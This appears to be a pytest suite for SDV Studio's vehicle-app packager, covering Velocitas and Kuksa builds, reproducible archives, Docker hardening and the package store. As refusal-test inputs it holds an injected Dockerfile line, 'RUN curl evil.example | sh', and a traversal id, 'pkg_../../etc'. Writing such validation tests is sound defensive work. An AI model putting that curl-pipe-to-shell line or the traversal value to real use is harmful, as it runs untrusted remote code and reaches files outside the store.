"""Building packages: both flavours, every source kind, docker files, reproducibility, the store."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from sdv_studio.core.packaging import (
    BuildFailed,
    BuildOptions,
    PackageError,
    PackageStore,
    build_from_request,
    build_package,
    manifest_of,
)
from sdv_studio.core.packaging import wheels as wheels_mod
from sdv_studio.core.packaging.archive import SUMS
from sdv_studio.core.packaging.stages import BuildProgress, BuildStage
from sdv_studio.models.package import PackageRequest

APPS = Path(__file__).resolve().parents[2] / "data" / "apps"
# One device Python: these tests are not about Pythons, and each more one is another wheel set.
ONE = ["3.11"]


def members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive, "r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers()}  # type: ignore[union-attr]


@pytest.fixture()
def store(tmp_path: Path) -> PackageStore:
    return PackageStore(tmp_path / "store")


def test_playground_app_is_velocitas(store: PackageStore) -> None:
    result = build_package(APPS / "playground_default.py", BuildOptions(python_versions=ONE), store=store)
    files = members(result.path)
    manifest = json.loads(files["manifest.json"])
    assert manifest["flavour"] == "velocitas" and manifest["formatVersion"] == 2
    assert manifest["name"] == "playground-default" and manifest["entryPoint"] == "main.py"
    # The id is the hash of SHA256SUMS, which covers the manifest: anyone can check it.
    assert "packageId" not in manifest
    assert result.stored.package_id == "pkg_" + hashlib.sha256(files["SHA256SUMS"]).hexdigest()[:16]
    assert manifest["platforms"] == ["x86_64", "aarch64"]
    launch = json.loads(files["launch.json"])
    assert launch["argv"] == ["{python}", "support/sdv_launcher.py", "app/main.py"]
    assert launch["env"]["SDV_VEHICLEDATABROKER_ADDRESS"] == "grpc://127.0.0.1:55555"
    assert launch["env"]["SDV_MQTT_ADDRESS"] == "mqtt://127.0.0.1:1883"
    assert launch["env"]["SDV_APP_FLAVOUR"] == "velocitas"  # the launcher's /health asks its databroker
    assert "support/sdv/__init__.py" in files and "support/vehicle/__init__.py" in files
    assert "support/vehicle/Body/Lights/Beam/Low/__init__.py" in files
    assert "velocitas-sdk==0.15.7" in files["requirements.txt"].decode().splitlines()
    assert any(n.startswith("wheels/any/velocitas_sdk-0.15.7") for n in files)
    assert any(n.startswith("wheels/x86_64/grpcio-") for n in files)
    assert any(n.startswith("wheels/aarch64/grpcio-") for n in files)


def test_progress_goes_through_the_stages_in_order_each_line_under_its_own(store: PackageStore) -> None:
    events: list[BuildProgress] = []
    build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE, platforms=["x86_64"]), events.append, store)
    stages = list(dict.fromkeys(e.stage for e in events))
    assert stages == list(BuildStage)
    assert [e.stage.progress for e in events] == sorted(e.stage.progress for e in events)
    assert [e.message for e in events if e.stage is BuildStage.WRITE] == [BuildStage.WRITE.message]
    assert any(e.stage is BuildStage.PLAN and "kuksa app" in e.message for e in events)
    invalid: list[BuildProgress] = []
    with pytest.raises(PackageError):
        build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE, name="Not Valid"), invalid.append,
                      store)
    assert invalid == []  # the problems alone: no stage starts


def test_sums_cover_every_entry_and_archive_is_normalised(store: PackageStore) -> None:
    result = build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE), store=store)
    files = members(result.path)
    listed = dict(reversed(line.split("  ", 1)) for line in files[SUMS].decode().splitlines())
    assert sorted(listed) == sorted(n for n in files if n != SUMS)
    for name, digest in listed.items():
        assert hashlib.sha256(files[name]).hexdigest() == digest
    with tarfile.open(result.path, "r:gz") as tar:
        infos = tar.getmembers()
    assert [i.name for i in infos] == sorted(i.name for i in infos)
    assert {(i.mtime, i.uid, i.gid, i.uname, i.gname) for i in infos} == {(0, 0, 0, "", "")}
    assert result.path.read_bytes()[4:8] == b"\0\0\0\0"  # gzip mtime 0


def test_same_input_twice_same_bytes(tmp_path: Path) -> None:
    app = APPS / "playground_default.py"
    first = build_package(app, BuildOptions(python_versions=ONE, output_dir=tmp_path / "a"),
                          store=PackageStore(tmp_path / "s1"))
    second = build_package(app, BuildOptions(python_versions=ONE, output_dir=tmp_path / "b"),
                           store=PackageStore(tmp_path / "s2"))
    assert first.stored.checksum == second.stored.checksum
    assert first.path.read_bytes() == second.path.read_bytes()
    assert first.stored.package_id == second.stored.package_id
    third = build_package(app, BuildOptions(python_versions=ONE, version="1.0.1", output_dir=tmp_path / "c"),
                          store=PackageStore(tmp_path / "s3"))
    assert third.stored.package_id != first.stored.package_id


def test_kuksa_complete_program_runs_as_is_with_launcher(store: PackageStore) -> None:
    result = build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE, platforms=["x86_64"]),
                           store=store)
    files = members(result.path)
    assert result.flavour == "kuksa"
    assert files["app/main.py"] == (APPS / "kuksa_app.py").read_bytes()
    assert json.loads(files["launch.json"])["argv"] == ["{python}", "support/sdv_launcher.py", "app/main.py"]
    assert json.loads(files["launch.json"])["env"]["KUKSA_ENDPOINT"] == "127.0.0.1:55555"
    assert json.loads(files["launch.json"])["env"]["SDV_APP_FLAVOUR"] == "kuksa"
    assert "kuksa-client==0.6.0" in files["requirements.txt"].decode().splitlines()
    assert not any(n.startswith("wheels/aarch64/") for n in files)


def test_kuksa_fragment_goes_into_template(store: PackageStore) -> None:
    result = build_package(APPS / "kuksa_fragment.py", BuildOptions(python_versions=ONE, platforms=["x86_64"]),
                           store=store)
    files = members(result.path)
    main = files["app/main.py"].decode()
    assert "class SDVVehicleApp" in main and "async def subscribe_to_signals(app)" in main
    assert "{{APP_LOGIC}}" not in main
    assert json.loads(files["launch.json"])["argv"] == ["{python}", "app/main.py"]
    assert not any(n.startswith("support/") for n in files)
    compile(main, "main.py", "exec")


def test_plain_fragment_uses_template_and_future_imports_move(store: PackageStore) -> None:
    from sdv_studio.core.packaging.sources import source_from_code

    source = source_from_code("from __future__ import annotations\nx: int = 1\n", name_hint="Plain Thing")
    result = build_package(source, BuildOptions(python_versions=ONE, platforms=["x86_64"]), store=store)
    main = members(result.path)["app/main.py"].decode()
    compile(main, "main.py", "exec")
    assert result.manifest["name"] == "plain-thing" and result.flavour == "kuksa"


def test_plain_complete_program_has_no_requirements(store: PackageStore) -> None:
    from sdv_studio.core.packaging.sources import source_from_code

    source = source_from_code("import time\nif __name__ == '__main__':\n    time.sleep(1)\n", name_hint="x")
    files = members(build_package(source, BuildOptions(python_versions=ONE), store=store).path)
    assert files["requirements.txt"] == b""
    assert not any(n.startswith("wheels/") for n in files)


def test_velocitas_project_pins_are_honoured_and_failures_name_their_origin(store: PackageStore) -> None:
    """The app's own SDK pin is kept, not swapped for another release: velocitas-sdk 0.13.1 was never
    published on PyPI, so the build fails, naming the pin and the file and line it came from."""
    with pytest.raises(BuildFailed) as info:
        build_package(APPS / "velocitas_project", BuildOptions(python_versions=ONE, platforms=["x86_64"]), store=store)
    assert info.value.problems == ["requirements: velocitas-sdk==0.13.1 (app/requirements-velocitas.txt:1): "
                                   "no wheel for x86_64 (Python 3.11, manylinux)"]


def test_velocitas_template_repository(store: PackageStore) -> None:
    events: list[BuildProgress] = []
    result = build_package(APPS / "velocitas_template_root", BuildOptions(python_versions=ONE, platforms=["x86_64"]),
                           events.append, store)
    notes = [e.message for e in events]
    planned = [e.message for e in events if e.stage is BuildStage.PLAN]  # the stage, the summary, then notes
    files = members(result.path)
    assert result.manifest["name"] == "sampleapp" and result.manifest["entryPoint"] == "src/main.py"
    assert result.manifest["kuksaConfig"]["vssVersion"] == "3.0"  # type: ignore[index]  # from the manifest's URL
    assert json.loads(files["launch.json"])["argv"] == ["{python}", "support/sdv_launcher.py", "app/src/main.py"]
    pins = files["requirements.txt"].decode().splitlines()
    # The app's own pins, the SDK's included; setuptools only below 82, which still has pkg_resources.
    assert {"velocitas-sdk==0.15.4", "grpcio==1.64.1", "protobuf==5.27.2", "aiohttp==3.10.5"} <= set(pins)
    assert [p for p in pins if p.startswith("setuptools==")] == ["setuptools==81.0.0"]
    # Nothing of the repository's developer environment (root requirements.txt) nor of app/tests.
    assert not [p for p in pins if p.split("==")[0] in ("mypy", "pre-commit", "pip-tools", "pytest", "virtualenv")]
    assert not [n for n in files if n.startswith("app/tests/")]
    assert "support/vehicle/__init__.py" in files and "support/vehicle/Speed/__init__.py" not in files
    assert planned[2].startswith("Velocitas VehicleApp `SampleApp` (line 19) started at line 44")
    assert any(n.startswith("note: setuptools<82 added") for n in notes)
    assert not any("imports not in requirements.txt" in n for n in notes)


def test_clashing_pins_name_both_sides_and_where_they_come_from(tmp_path: Path, store: PackageStore) -> None:
    (tmp_path / "main.py").write_text("from velocitas_sdk.vehicle_app import VehicleApp\n\n"
                                      "class A(VehicleApp):\n    pass\n")
    (tmp_path / "requirements.txt").write_text("# pinned by hand\nvelocitas-sdk==0.15.4\ngrpcio==1.59.0\n")
    with pytest.raises(BuildFailed) as info:
        build_package(tmp_path, BuildOptions(python_versions=ONE, name="clash", platforms=["x86_64"]), store=store)
    assert info.value.problems == [
        "requirements: on x86_64, grpcio==1.59.0 (requirements.txt:3) conflicts with grpcio==1.64.1 "
        "(required by velocitas-sdk 0.15.4, requirements.txt:2)"]


def test_namespace_imports_provided_by_wheels_are_not_missing(tmp_path: Path, store: PackageStore) -> None:
    (tmp_path / "main.py").write_text("from google.protobuf import timestamp_pb2\nimport yaml\nimport grpc\n"
                                      "import requestz\n\nif __name__ == '__main__':\n    print(timestamp_pb2)\n")
    (tmp_path / "requirements.txt").write_text("protobuf==5.29.5\npyyaml\ngrpcio==1.64.1\n")
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_main.py").write_text("import pytest\nimport hypothesis\n")
    (tmp_path / "conftest.py").write_text("import pytest_asyncio\n")
    events: list[BuildProgress] = []
    result = build_package(tmp_path, BuildOptions(python_versions=ONE, name="ns", platforms=["x86_64"]),
                           events.append, store)
    assert [e.message for e in events if "imports not in" in e.message] == [
        "note: imports not in requirements.txt (install may miss them): requestz"]
    assert not [n for n in members(result.path) if "test" in n or "conftest" in n]


def test_playground_tree_export(store: PackageStore) -> None:
    result = build_package(APPS / "playground_export_tree.json",
                           BuildOptions(python_versions=ONE, platforms=["x86_64"]), store=store)
    files = members(result.path)
    assert {"app/main.py", "app/lights.py", "app/config/settings.json", "app/logo.png"} <= set(files)
    assert result.manifest["name"] == "blink-project"


def test_vss_choice(store: PackageStore, tmp_path: Path) -> None:
    options = BuildOptions(python_versions=ONE, vss="6.0", platforms=["x86_64"])
    result = build_package(APPS / "playground_default.py", options, store=store)
    assert result.manifest["kuksaConfig"]["vssVersion"] == "6.0"  # type: ignore[index]
    with pytest.raises(PackageError) as info:
        build_package(APPS / "playground_default.py",
                      BuildOptions(python_versions=ONE, vss=str(tmp_path / "nope.json")), store=store)
    assert info.value.problems[0].startswith("vss: ")


def test_docker_files(store: PackageStore) -> None:
    options = BuildOptions(python_versions=ONE, runtime="docker", memory="1G", cpu="1500m", platforms=["x86_64"])
    files = members(build_package(APPS / "kuksa_app.py", options, store=store).path)
    dockerfile = files["docker/Dockerfile"].decode()
    assert "ARG BASE_IMAGE=python:3.11-slim" in dockerfile
    assert "useradd --create-home --uid 1000" in dockerfile and "USER 1000:1000" in dockerfile
    assert "pip install --no-index" in dockerfile and 'wheels/$(uname -m)' in dockerfile
    assert "HEALTHCHECK" in dockerfile and "/health" in dockerfile
    compose = files["docker/compose.yaml"].decode()
    for expected in ('memory: "1024M"', 'cpus: "1.5"', '"no-new-privileges:true"', "read_only: true",
                     "network: none", '"/tmp:noexec,nosuid,size=100m"', "cap_drop:", 'user: "1000:1000"'):
        assert expected in compose
    custom = BuildOptions(python_versions=ONE, base_image="debian-python:bookworm", platforms=["x86_64"])
    assert "ARG BASE_IMAGE=debian-python:bookworm" in members(
        build_package(APPS / "kuksa_app.py", custom, store=store).path)["docker/Dockerfile"].decode()


@pytest.mark.parametrize("image", ["python:3.11-slim\nRUN curl evil.example | sh", "python 3.11", "Python:3.11", ""])
def test_a_base_image_that_is_not_a_reference_is_refused(store: PackageStore, image: str) -> None:
    with pytest.raises(PackageError) as info:
        build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE, base_image=image), store=store)
    assert info.value.problems[0].startswith(f"baseImage: {image!r} is not an image reference")


@pytest.mark.parametrize("image", ["python:3.11-slim", "registry.example.com:5000/team/py_base:3.11",
                                   f"debian@sha256:{'a' * 64}"])
def test_image_references_as_docker_spells_them_are_accepted(image: str) -> None:
    from sdv_studio.core.packaging.docker import valid_image_reference

    assert valid_image_reference(image)


def test_a_playground_request_with_a_broken_tree_is_invalid_input_not_a_crash(store: PackageStore) -> None:
    tree = {"type": "folder", "name": "app", "items": [{"type": "file", "name": "README.md", "content": "no code"}]}
    request = PackageRequest.model_validate({"name": "tree-app", "code": json.dumps(tree)})
    with pytest.raises(PackageError, match=r"the file tree has no main\.py"):
        build_from_request(request, store=store)


def test_invalid_inputs_report_every_problem(store: PackageStore) -> None:
    options = BuildOptions(python_versions=ONE, name="Bad Name", version="1.0", memory="64MB", cpu="0.01",
                           platforms=["sparc"])
    with pytest.raises(PackageError) as info:
        build_package(APPS / "kuksa_app.py", options, store=store)
    assert info.value.problems == [
        "name: must be lowercase letters, digits and hyphens",
        "version: must be a semantic version x.y.z, e.g. 1.0.0",
        "deployment.resourceLimits.memory: must be at least 128MB",
        "deployment.resourceLimits.cpu: must be at least 0.1",
        "platform: sparc: must be one of x86_64, aarch64",
    ]


def test_syntax_errors_in_any_file(tmp_path: Path, store: PackageStore) -> None:
    (tmp_path / "main.py").write_text("import helper\nif __name__ == '__main__':\n    helper.go()\n")
    (tmp_path / "helper.py").write_text("def go(:\n    pass\n")
    with pytest.raises(PackageError) as info:
        build_package(tmp_path, BuildOptions(python_versions=ONE), store=store)
    assert info.value.problems == ["helper.py:1:8: SyntaxError: invalid syntax"]


def test_direct_url_requirement_is_refused(tmp_path: Path, store: PackageStore) -> None:
    (tmp_path / "main.py").write_text("if __name__ == '__main__':\n    pass\n")
    (tmp_path / "requirements.txt").write_text("-r other.txt\nfoo @ https://example.invalid/foo.whl\n")
    with pytest.raises(PackageError) as info:
        build_package(tmp_path, BuildOptions(python_versions=ONE), store=store)
    assert info.value.problems == [
        "requirements.txt:2: foo: a direct URL cannot be vendored; name a released version instead"]


def test_missing_wheel_is_reported_by_name_and_platform(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                        store: PackageStore) -> None:
    stderr = ("ERROR: Could not find a version that satisfies the requirement nowheel==1.0 (from versions: none)\n"
              "ERROR: No matching distribution found for nowheel==1.0\n")

    class Done:
        returncode, stdout = 1, ""

    Done.stderr = stderr  # type: ignore[attr-defined]
    monkeypatch.setattr(wheels_mod.subprocess, "run", lambda *a, **k: Done())
    monkeypatch.setenv("SDV_STUDIO_WHEEL_CACHE", str(tmp_path / "empty-cache"))
    (tmp_path / "main.py").write_text("if __name__ == '__main__':\n    pass\n")
    (tmp_path / "requirements.txt").write_text("nowheel==1.0\n")
    with pytest.raises(BuildFailed) as info:
        build_package(tmp_path, BuildOptions(python_versions=ONE, name="x"), store=store)
    assert info.value.problems == [
        "requirements: nowheel==1.0 (requirements.txt:1): no wheel for x86_64 (Python 3.11, manylinux)",
        "requirements: nowheel==1.0 (requirements.txt:1): no wheel for aarch64 (Python 3.11, manylinux)",
    ]


def test_warm_cache_runs_no_pip(monkeypatch: pytest.MonkeyPatch, store: PackageStore) -> None:
    build_package(APPS / "playground_default.py", BuildOptions(python_versions=ONE), store=store)

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("pip ran with a warm cache")

    monkeypatch.setattr(wheels_mod.subprocess, "run", forbidden)
    build_package(APPS / "playground_default.py", BuildOptions(python_versions=ONE, version="2.0.0"), store=store)


def test_store_finds_packages_by_id(store: PackageStore) -> None:
    result = build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE), store=store)
    stored = store.get(result.stored.package_id)
    assert stored is not None and stored.path.is_file()
    assert stored.checksum == "sha256:" + hashlib.sha256(stored.path.read_bytes()).hexdigest()
    assert [p.package_id for p in store.list()] == [result.stored.package_id]
    assert manifest_of(stored.path)["name"] == "kuksa-app"
    again = build_package(APPS / "kuksa_app.py", BuildOptions(python_versions=ONE), store=store)
    assert again.stored.created_at == result.stored.created_at
    assert store.get("pkg_../../etc") is None
    assert store.remove(result.stored.package_id) and store.get(result.stored.package_id) is None


def test_api_request_builds(store: PackageStore) -> None:
    request = PackageRequest.model_validate({
        "name": "welcome-assistant", "version": "1.0.0", "description": "Vehicle welcome assistance app",
        "code": (APPS / "kuksa_fragment.py").read_text(), "runtimeMode": "docker",
        "kuksaConfig": {"brokerAutoDetect": True, "fallbackBroker": True, "vssVersion": "latest",
                        "customBrokerUrl": "grpc://10.0.0.5:55556"},
        "deployment": {"hotSwap": True, "otaEnabled": True, "resourceLimits": {"memory": "512MB", "cpu": "0.5"}},
        "platforms": ["x86_64"], "pythonVersion": "3.11",
    })
    result = build_from_request(request, store=store)
    files = members(result.path)
    assert result.manifest["runtimeMode"] == "docker"
    assert json.loads(files["launch.json"])["env"]["KUKSA_ENDPOINT"] == "10.0.0.5:55556"


def test_request_settings_reach_the_manifest(store: PackageStore) -> None:
    """What the deploy engine acts on (fallback broker, hot swap) is what the user asked for."""
    request = PackageRequest.model_validate({
        "name": "no-fallback", "code": (APPS / "kuksa_app.py").read_text(), "platforms": ["x86_64"],
        "pythonVersion": "3.11",
        "kuksaConfig": {"brokerAutoDetect": False, "fallbackBroker": False, "vssVersion": "4.0"},
        "deployment": {"hotSwap": False, "otaEnabled": False},
        "security": {"sandboxLevel": "advanced", "dataAccess": "encrypted", "interAppCommunication": True},
    })
    manifest = json.loads(members(build_from_request(request, store=store).path)["manifest.json"])
    assert manifest["kuksaConfig"]["fallbackBroker"] is False and manifest["kuksaConfig"]["brokerAutoDetect"] is False
    assert (manifest["deployment"]["hotSwap"], manifest["deployment"]["otaEnabled"]) == (False, False)
    assert manifest["security"] == {"sandboxLevel": "advanced", "dataAccess": "encrypted",
                                    "interAppCommunication": True}


def test_tar_is_extractable_with_data_filter(store: PackageStore, tmp_path: Path) -> None:
    result = build_package(APPS / "playground_default.py", BuildOptions(python_versions=ONE), store=store)
    with tarfile.open(fileobj=io.BytesIO(result.path.read_bytes()), mode="r:gz") as tar:
        tar.extractall(tmp_path / "x", filter="data")
    assert (tmp_path / "x" / "support" / "sdv_launcher.py").is_file()


def test_kuksa_documentation_program_runs_under_the_launcher(store: PackageStore) -> None:
    events: list[BuildProgress] = []
    result = build_package(APPS / "kuksa_docs" / "sync_loop.py",
                           BuildOptions(python_versions=ONE, platforms=["x86_64"]), events.append, store)
    files = members(result.path)
    assert files["app/main.py"] == (APPS / "kuksa_docs" / "sync_loop.py").read_bytes()
    assert json.loads(files["launch.json"])["argv"] == ["{python}", "support/sdv_launcher.py", "app/main.py"]
    assert "support/sdv_launcher.py" in files
    assert ("kuksa program that runs its own loop (line 7: `with VSSClient(...)` at module level): "
            "run as is under the launcher") in [e.message for e in events]


def test_vss_overlay_adds_the_apps_own_signals(store: PackageStore) -> None:
    result = build_package(APPS / "velocitas_dogmode", BuildOptions(python_versions=ONE, platforms=["x86_64"]),
                           store=store)
    files = members(result.path)
    cabin = json.loads(files["support/vss.json"])["Vehicle"]["children"]["Cabin"]["children"]
    assert cabin["DogMode"] == {"datatype": "boolean", "type": "actuator",
                                "description": "Whether dog mode is on (the cabin kept at a safe temperature "
                                               "while parked)."}
    assert (cabin["DogModeTemperature"]["unit"], cabin["DogModeTemperature"]["max"]) == ("celsius", 60)
    assert "HVAC" in cabin and "Speed" in json.loads(files["support/vss.json"])["Vehicle"]["children"]
    model = files["support/vehicle/Cabin/__init__.py"].decode()
    assert "DogModeTemperature" in model and "DataPointBoolean" in model


def test_vss_choice_by_release_url(store: PackageStore) -> None:
    url = "https://github.com/COVESA/vehicle_signal_specification/releases/download/v3.1.1/vss_rel_3.1.1.json"
    result = build_package(APPS / "playground_default.py",
                                 BuildOptions(python_versions=ONE, vss=url, platforms=["x86_64"]), store=store)
    assert result.manifest["kuksaConfig"]["vssVersion"] == "3.1.1"  # type: ignore[index]
    assert "support/vss.json" not in members(result.path)  # no overlay: the release as shipped
    with pytest.raises(PackageError) as info:
        build_package(APPS / "playground_default.py", BuildOptions(python_versions=ONE, vss="https://example.invalid/vss.json"),
                      store=store)
    assert info.value.problems == ["vss: https://example.invalid/vss.json: not a VSS release SDV Studio ships "
                                   "(3.0, 3.1.1, 4.0, 5.1, 6.0); URLs are never downloaded: save the catalogue and "
                                   "name its path"]


@pytest.mark.parametrize(("overlay", "problem"), [
    ("Vehicle.Cabin.DogMode:\n  datatype: boolean\n  type: actuatorx\n  description: On.\n",
     "dogmode.vspec:1: Vehicle.Cabin.DogMode: Input should be 'branch', 'attribute', 'sensor', 'actuator', "
     "'struct' or 'property'"),
    ("# own signals\n\nVehicle.Cabin.DogMode:\n  datatype: boolean\n   type: actuator\n",
     "dogmode.vspec:5:8: mapping values are not allowed here"),
    ("# nothing here\n", "dogmode.vspec:1: no VSS node definitions (a line `Vehicle.Some.Signal:`)"),
])
def test_overlay_errors_name_file_and_line(tmp_path: Path, store: PackageStore, overlay: str, problem: str) -> None:
    (tmp_path / "main.py").write_text((APPS / "playground_default.py").read_text())
    (tmp_path / "dogmode.vspec").write_text(overlay)
    with pytest.raises(PackageError) as info:
        build_package(tmp_path, BuildOptions(python_versions=ONE, name="dog", platforms=["x86_64"]), store=store)
    assert info.value.problems == [problem]


@pytest.mark.parametrize(("env", "reason"), [
    ({"PIP_NO_INDEX": "1"}, "the package index is switched off (PIP_NO_INDEX)"),
    # A closed port on loopback: pip's connection is refused at once (nothing leaves this machine).
    ({"PIP_INDEX_URL": "http://127.0.0.1:9/simple", "PIP_RETRIES": "1", "PIP_TIMEOUT": "2"},
     "the package index at 127.0.0.1:9 is unreachable (Failed to establish a new connection"),
])
def test_an_offline_workstation_is_told_so_not_that_no_wheel_exists(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store: PackageStore, env: dict[str, str], reason: str) -> None:
    monkeypatch.setenv("SDV_STUDIO_WHEEL_CACHE", str(tmp_path / "empty-cache"))
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    options = BuildOptions(python_versions=ONE, platforms=["x86_64"], extra_requirements=["sdv-no-such-dist-x==1.0"])
    with pytest.raises(BuildFailed) as info:
        build_package(APPS / "light_counter.py", options, store=store)
    assert any("sdv-no-such-dist-x" in p and reason in p and "wheel cache" in p for p in info.value.problems), \
        info.value.problems
    # Nothing is remembered as unavailable: back online, the next build asks the index again.
    assert not list((tmp_path / "empty-cache").glob("sets/*.json"))
